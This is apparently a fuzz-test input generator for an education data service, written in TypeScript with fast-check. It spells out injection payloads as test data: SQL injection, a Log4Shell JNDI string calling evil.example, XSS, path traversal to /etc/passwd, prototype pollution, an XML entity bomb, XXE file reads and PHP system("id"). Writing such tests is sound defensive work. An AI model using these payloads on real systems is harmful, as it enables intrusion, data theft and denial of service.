import fc from 'fast-check';

/*
 * Generators of hostile input for test/fuzz.test.ts: JSON values built from a JSON schema and then
 * broken, strings and numbers at the edges, raw bytes that are not UTF-8, hostile XML, URL parts.
 */

export type Schema = Record<string, unknown> & {
  type?: string | string[];
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  anyOf?: Schema[];
  oneOf?: Schema[];
  allOf?: Schema[];
  enum?: unknown[];
  const?: unknown;
  pattern?: string;
  format?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  minItems?: number;
  maxItems?: number;
};

/** JSON text written as is: what JSON.stringify cannot produce (1e309, -0, 10,000 levels of nesting). */
export class Raw {
  constructor(readonly text: string) {}
}

/** An object as an ordered list of entries, so that keys like `__proto__` stay plain data. */
export class Obj {
  constructor(readonly entries: Array<[string, Tree]>) {}
}

export type Tree = null | boolean | number | string | Raw | Obj | Tree[];

export function serialize(v: Tree): string {
  if (v instanceof Raw) return v.text;
  if (v instanceof Obj) return `{${v.entries.map(([k, x]) => `${JSON.stringify(k)}:${serialize(x)}`).join(',')}}`;
  if (Array.isArray(v)) return `[${v.map(serialize).join(',')}]`;
  // JSON.stringify escapes lone surrogates as \udXXX, which JSON.parse turns back into them.
  return JSON.stringify(v) ?? 'null';
}

/** World values by parameter or property name, so that requests reach past the lookups. */
export type WorldValues = Record<string, readonly string[]>;

// --- Strings ---

const LONE_SURROGATES = ['\uD800', '\uDBFF', '\uDC00', '\uDFFF', 'a\uD83Db', '\uDE00\uD83D'];
const EDGE_STRINGS: string[] = [
  '',
  ' ',
  '\t\r\n',
  '\u0000',
  'a\u0000b',
  '%00',
  '%',
  '%%32%65',
  ...LONE_SURROGATES,
  '\u202Eevil\u202C', // right-to-left override
  '\u200F\u200E',
  '\u200B\u2060\uFEFF', // zero-width and BOM
  '\uFFFE\uFFFF',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'e\u0301'.repeat(200),
  'Ω≈ç√∫˜µ≤≥÷',
  '𝕿𝖍𝖊',
  '\u0085\u2028\u2029',
  '../../../../etc/passwd',
  '..%2f..%2f',
  "' OR '1'='1' --",
  "'; drop table people; --",
  '$1',
  '\\',
  '"\\u0000"',
  '<script>alert(1)</script>',
  '{{7*7}}${7*7}',
  '${jndi:ldap://evil.example/a}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '1e309',
  '0x1F',
  '9'.repeat(400),
  '-9223372036854775809',
  'null',
  'true',
  'undefined',
  '[]',
  '{}',
  'ark:/12345/',
  'ark:/12345/a b',
  '0650001Y\u0000',
  '0650001y',
  '0650001 Y',
  'https://evil.example/acs',
  'javascript:alert(1)',
  'http://localhost:1/acs',
];

/** Strings that are wrong, strange or big; occasionally 0.3–2 MB. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...EDGE_STRINGS) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 2, arbitrary: fc.integer({ min: 65, max: 70_000 }).map((n) => 'x'.repeat(n)) },
  { weight: 1, arbitrary: fc.constantFrom(300_000, 1_100_000, 2_000_000).map((n) => 'é'.repeat(n / 2)) },
);

// --- JSON values ---

const EDGE_NUMBERS = ['1e309', '-1e309', '-0', '1e-400', '123456789012345678901234567890', '9007199254740993', '-9007199254740993', '0.0000000000000000000001', '1E+2', '2.5'].map(
  (t) => new Raw(t),
);

/** Deep nesting, as text: building it as objects would be the test's own stack overflow. */
export const deepNesting = (levels: number, kind: 'array' | 'object'): Raw =>
  kind === 'array' ? new Raw('['.repeat(levels) + ']'.repeat(levels)) : new Raw('{"a":'.repeat(levels) + '1' + '}'.repeat(levels));

const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', '', '\u0000', 'id', 'role', 'admin', '$where', 'a'.repeat(5000)),
  fc.string({ unit: 'binary', maxLength: 12 }),
);

export const hostileValue: fc.Arbitrary<Tree> = fc.oneof(
  { weight: 6, arbitrary: hostileString },
  { weight: 2, arbitrary: fc.constantFrom(...EDGE_NUMBERS) },
  { weight: 1, arbitrary: fc.double().map((d) => (Number.isFinite(d) ? d : new Raw(String(d)))) },
  { weight: 1, arbitrary: fc.bigInt({ min: -(2n ** 80n), max: 2n ** 80n }).map((b) => new Raw(b.toString())) },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.constantFrom<Tree>(true, false, null, [], new Obj([]), [null], [[]], ['a', 'b', 'c']) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.tuple(hostileKey, hostileString).map(([k, v]): Tree => new Obj([[k, v]])) },
  { weight: 1, arbitrary: fc.constantFrom(new Obj([['__proto__', new Obj([['isAdmin', true]])]]), new Obj([['constructor', new Obj([['prototype', new Obj([['x', 1]])]])]])) },
  { weight: 1, arbitrary: fc.constantFrom(100, 1_000, 10_000).chain((n) => fc.constantFrom(deepNesting(n, 'array'), deepNesting(n, 'object'))) },
);

// --- Plausible values from a schema (then broken by mutations) ---

const FORMAT_VALUES: Record<string, string[]> = {
  date: ['2026-11-01', '2026-02-30', '2026-13-01'],
  'date-time': ['2026-11-01T00:00:00Z', '2026-11-25T09:00:00+01:00', '2026-11-01'],
  email: ['x@example.org'],
  uri: ['https://sp.test/acs'],
};

function typeOf(s: Schema): string | undefined {
  const t = s.type;
  return Array.isArray(t) ? t.find((x) => x !== 'null') ?? t[0] : t;
}

/** A value shaped like `schema` wants, with world values where the name is known. */
export function plausible(schema: Schema, name: string, world: WorldValues, depth = 0): fc.Arbitrary<Tree> {
  const branches = schema.anyOf ?? schema.oneOf;
  if (branches && branches.length > 0) return fc.oneof(...branches.map((b) => plausible(b, name, world, depth)));
  if (schema.allOf && schema.allOf.length > 0) return plausible(Object.assign({}, ...schema.allOf) as Schema, name, world, depth);
  if (schema.const !== undefined) return fc.constant(schema.const as Tree);
  if (schema.enum) return fc.constantFrom(...(schema.enum as Tree[]));
  switch (typeOf(schema)) {
    case 'string': {
      const known = world[name];
      const options: Array<fc.Arbitrary<string>> = [];
      if (known) options.push(fc.constantFrom(...known));
      if (schema.format && FORMAT_VALUES[schema.format]) options.push(fc.constantFrom(...FORMAT_VALUES[schema.format]!));
      else if (schema.format === 'uuid') options.push(fc.uuid());
      else if (schema.pattern) {
        const max = Math.min(schema.maxLength ?? 64, 64);
        options.push(fc.stringMatching(new RegExp(schema.pattern)).filter((s) => s.length >= (schema.minLength ?? 0) && s.length <= max));
      } else {
        const min = schema.minLength ?? 0;
        options.push(fc.string({ minLength: min, maxLength: Math.max(min, Math.min(schema.maxLength ?? 16, 16)) }));
      }
      return fc.oneof(...options);
    }
    case 'integer':
    case 'number': {
      const min = schema.minimum ?? -1000;
      const max = schema.maximum ?? Math.max(min, 1000);
      return fc.integer({ min: Math.ceil(min), max: Math.floor(max) });
    }
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      if (depth > 4) return fc.constant([]);
      const min = schema.minItems ?? 0;
      return fc.array(plausible(schema.items ?? {}, name, world, depth + 1), { minLength: min, maxLength: Math.max(min, Math.min(schema.maxItems ?? 2, 2)) });
    }
    case 'object': {
      if (depth > 4) return fc.constant(new Obj([]));
      const props = Object.entries(schema.properties ?? {});
      const required = new Set(schema.required ?? []);
      return fc
        .tuple(
          ...props.map(([key, sub]) => {
            const value = plausible(sub, key, world, depth + 1).map((v) => [key, v] as [string, Tree]);
            return required.has(key) ? value.map((e) => e as [string, Tree] | null) : fc.option(value, { nil: null, freq: 2 });
          }),
        )
        .map((entries) => new Obj(entries.filter((e): e is [string, Tree] => e !== null)));
    }
    default:
      return hostileValue;
  }
}

// --- Mutations ---

type Path = Array<string | number>;

function paths(v: Tree, at: Path = [], out: Path[] = []): Path[] {
  out.push(at);
  if (out.length > 200) return out;
  if (v instanceof Obj) for (const [k, x] of v.entries) paths(x, [...at, k], out);
  else if (Array.isArray(v)) v.forEach((x, i) => paths(x, [...at, i], out));
  return out;
}

function rewrite(v: Tree, path: Path, fn: (old: Tree) => Tree | undefined): Tree {
  if (path.length === 0) return fn(v) ?? null;
  const [head, ...rest] = path;
  if (v instanceof Obj) {
    const entries: Array<[string, Tree]> = [];
    for (const [k, x] of v.entries) {
      if (k !== head) entries.push([k, x]);
      else if (rest.length > 0) entries.push([k, rewrite(x, rest, fn)]);
      else {
        const nx = fn(x);
        if (nx !== undefined) entries.push([k, nx]);
      }
    }
    return new Obj(entries);
  }
  if (Array.isArray(v)) {
    const copy = [...v];
    const i = head as number;
    if (rest.length > 0) copy[i] = rewrite(copy[i]!, rest, fn);
    else {
      const nx = fn(copy[i]!);
      if (nx === undefined) copy.splice(i, 1);
      else copy[i] = nx;
    }
    return copy;
  }
  return v;
}

export type Mutation =
  | { kind: 'replace'; at: number; value: Tree }
  | { kind: 'delete'; at: number }
  | { kind: 'add'; at: number; key: string; value: Tree }
  | { kind: 'wrap'; at: number };

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 5, arbitrary: fc.record({ kind: fc.constant('replace' as const), at: fc.nat(), value: hostileValue }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('delete' as const), at: fc.nat() }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('add' as const), at: fc.nat(), key: hostileKey, value: hostileValue }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('wrap' as const), at: fc.nat() }) },
);

export function mutate(v: Tree, m: Mutation): Tree {
  const all = paths(v);
  const path = all[m.at % all.length]!;
  switch (m.kind) {
    case 'replace':
      return rewrite(v, path, () => m.value);
    case 'delete':
      return path.length === 0 ? new Obj([]) : rewrite(v, path, () => undefined);
    case 'wrap':
      // The right value in the wrong container: x → [x, x] (a one-element array would be coerced back).
      return rewrite(v, path, (old) => [old, old]);
    case 'add':
      return rewrite(v, path, (old) => (old instanceof Obj ? new Obj([...old.entries, [m.key, m.value]]) : Array.isArray(old) ? [...old, m.value] : old));
  }
}

// --- Raw bodies ---

const bytes = (...parts: Array<string | number[]>) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p))));

/** Bodies that are not JSON, or not UTF-8: syntax errors, overlong encodings, UTF-16, stray bytes. */
export const junkBody: fc.Arbitrary<string | Buffer> = fc.oneof(
  fc.constantFrom<string | Buffer>(
    '',
    ' ',
    '{',
    '}',
    '{"a":}',
    '{"a":1,}',
    "{'a':1}",
    '{"a" 1}',
    'NaN',
    '{"n":NaN}',
    '{"n":Infinity}',
    '{"n":-}',
    '{"a":"\u0000"}',
    '{"a":"\\ud800"}',
    '{"a":"\\u12"}',
    '\uFEFF{}',
    '{}{}',
    '[1,2',
    '"just a string"',
    '12',
    'null',
    'true',
    '{"a":1,"a":2}',
    '/* comment */ {}',
    '<xml/>',
    'a=1&b=2',
    '['.repeat(10_000),
    '{"a":'.repeat(10_000),
    '['.repeat(10_000) + ']'.repeat(10_000),
    '{"a":'.repeat(10_000) + '1' + '}'.repeat(10_000),
    bytes('{"name":"', [0xc0, 0xaf], '"}'), // overlong '/'
    bytes('{"name":"', [0xe0, 0x80, 0xaf], '"}'), // overlong, three bytes
    bytes('{"name":"', [0xf0, 0x80, 0x80, 0xaf], '"}'), // overlong, four bytes
    bytes('{"name":"', [0xed, 0xa0, 0x80], '"}'), // an encoded surrogate (CESU-8)
    bytes('{"name":"', [0xff, 0xfe, 0xfd], '"}'),
    bytes([0xc0, 0xfb], '{}'),
    bytes('{"a":1', [0x00], '}'),
    Buffer.from('{"a":"b"}', 'utf16le'),
    bytes([0xff, 0xfe], Buffer.from('{}', 'utf16le').toJSON().data),
  ),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.uint8Array({ maxLength: 200 }).map((a) => Buffer.from(a)),
);

// --- XML ---

export const GAR_NS = 'http://data.education.fr/ns/gar';
const garRoot = (inner: string, kind = 'GAR-ENT-Eleve') =>
  `<?xml version="1.0" encoding="UTF-8"?><men:${kind} xmlns:men="${GAR_NS}" Version="1.7">${inner}</men:${kind}>`;

const LAUGHS =
  '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
  '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">' +
  '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">' +
  '<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">' +
  '<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>';

const deepXml = (levels: number, prefix = '') => `${`<${prefix}a>`.repeat(levels)}${`</${prefix}a>`.repeat(levels)}`;

/**
 * XML documents that must all be refused: entity bombs, external entities, unclosed or deep
 * elements, wrong roots, illegal characters, broken encodings. For a GAR-ENT file or SP metadata.
 */
export const hostileXml: fc.Arbitrary<string | Buffer> = fc.oneof(
  fc.constantFrom<string | Buffer>(
    `${LAUGHS}<lolz>&lol9;</lolz>`,
    `${LAUGHS}${garRoot('<men:GAREleve><men:GARPersonNom>&lol9;</men:GARPersonNom></men:GAREleve>')}`,
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    `<?xml version="1.0"?><!DOCTYPE men:GAR-ENT-Eleve [<!ENTITY xxe SYSTEM "http://127.0.0.1:1/x">]>${garRoot('<men:GAREleve><men:GARPersonNom>&xxe;</men:GARPersonNom></men:GAREleve>')}`,
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:1/evil.dtd"> %p;]><x/>',
    '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd"><x/>',
    '<!doctype x><x/>',
    '<x><!ENTITY a "b"></x>',
    garRoot('<men:GAREleve><men:GARPersonNom>&undefined;</men:GARPersonNom></men:GAREleve>'),
    garRoot('<men:GAREleve><men:GARPersonNom>x</men:GAREleve>'),
    `<?xml version="1.0"?><men:GAR-ENT-Eleve xmlns:men="${GAR_NS}" Version="1.7"><men:GAREleve>`,
    `<men:GAR-ENT-Eleve xmlns:men="${GAR_NS}" Version="1.7"`,
    garRoot(`<men:GAREleve>${deepXml(10_000, 'men:')}</men:GAREleve>`),
    garRoot(deepXml(10_000, 'men:')),
    deepXml(10_000),
    `<a>${'<b>'.repeat(10_000)}`,
    garRoot(`<men:GAREleve><men:GARPersonNom>${'x'.repeat(5000)}</men:GARPersonNom></men:GAREleve>`),
    garRoot('<men:GAREleve/>', 'GAR-ENT-Nope'),
    `<?xml version="1.0"?><men:GAR-ENT-Eleve xmlns:men="${GAR_NS}/9.9" Version="1.7"/>`,
    '<GAR-ENT-Eleve Version="1.7"/>',
    garRoot('<men:GAREtab/>'),
    garRoot('<men:GAREleve><men:GARPersonNom>a\u0000b</men:GARPersonNom></men:GAREleve>'),
    garRoot('<men:GAREleve><men:GARPersonNom>\uD800</men:GARPersonNom></men:GAREleve>'),
    garRoot('<men:GAREleve><men:GARPersonNom><![CDATA[x]]]]><![CDATA[>]]></men:GARPersonNom><men:GARPersonNom2></men:GAREleve>'),
    garRoot('<?php system("id"); ?><men:GAREleve><men:GARPersonNom a="1" a="2">x</men:GARPersonNom></men:GAREleve>'),
    '<?xml version="1.0" encoding="UTF-16"?><x/>',
    '<x xmlns:a="urn:a" xmlns:a="urn:b"/>',
    '<<<>>>',
    '</x>',
    '<x>',
    'not xml at all',
    '{"json":"instead"}',
    '',
    ' ',
    bytes('<x>', [0xc0, 0xbc], 'script', [0xc0, 0xbe], '</x>'), // overlong '<' and '>'
    bytes([0xef, 0xbb, 0xbf], '<x><y>', [0xff, 0xfe], '</y>'),
    Buffer.from('<?xml version="1.0" encoding="UTF-16"?><x/>', 'utf16le'),
  ),
  // A random text inside an otherwise plausible record, never closed.
  fc.string({ unit: 'binary', maxLength: 40 }).map((s) => garRoot(`<men:GAREleve><men:GARPersonNom>${s}`).replace(/<\/men:GAR-ENT-Eleve>$/, '')),
);

// --- URL parts ---

/** Percent-encodes every byte, lone surrogates as their 3-byte (WTF-8) forms, which no valid URL holds. */
export function encodeComponent(s: string): string {
  let out = '';
  for (const ch of s) {
    const cp = ch.codePointAt(0)!;
    if (cp >= 0xd800 && cp <= 0xdfff) {
      out += `%${(0xe0 | (cp >> 12)).toString(16).toUpperCase()}%${(0x80 | ((cp >> 6) & 0x3f)).toString(16).toUpperCase()}%${(0x80 | (cp & 0x3f)).toString(16).toUpperCase()}`;
    } else out += encodeURIComponent(ch);
  }
  return out;
}

export const hasLoneSurrogate = (s: string) => /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/.test(s);

/** Path segments and query strings written raw: bad escapes, overlong UTF-8, traversal. */
// No dot segments ('.', '..', '%2e%2e'): app.inject resolves them as a browser would, so the request
// reaches another route than the one whose expectations were computed. test/input-guard.test.ts
// sends them over a socket instead.
export const rawSegment = fc.constantFrom('%', '%0', '%00', '%zz', '%E0%A4%A', '%C0%AF', '%C0%AE%C0%AE', ';x=1', '%252F', '%FF%FE', '%ED%A0%80');
export const rawQuery = fc.constantFrom(
  '%',
  '=&=&',
  '&&&',
  'a[b]=c&a[c]=d',
  '__proto__[x]=1',
  'constructor.prototype.x=1',
  'limit=1&limit=2&limit=3',
  'limit=%00',
  'after=%C0%AF',
  'a=%E0%A4%A',
  `x=${'y'.repeat(100_000)}`,
  `${'k'.repeat(10_000)}=v`,
  'limit=1e309',
  'limit=-0',
  'limit=NaN',
  'limit=0x10',
  'limit= 5',
);
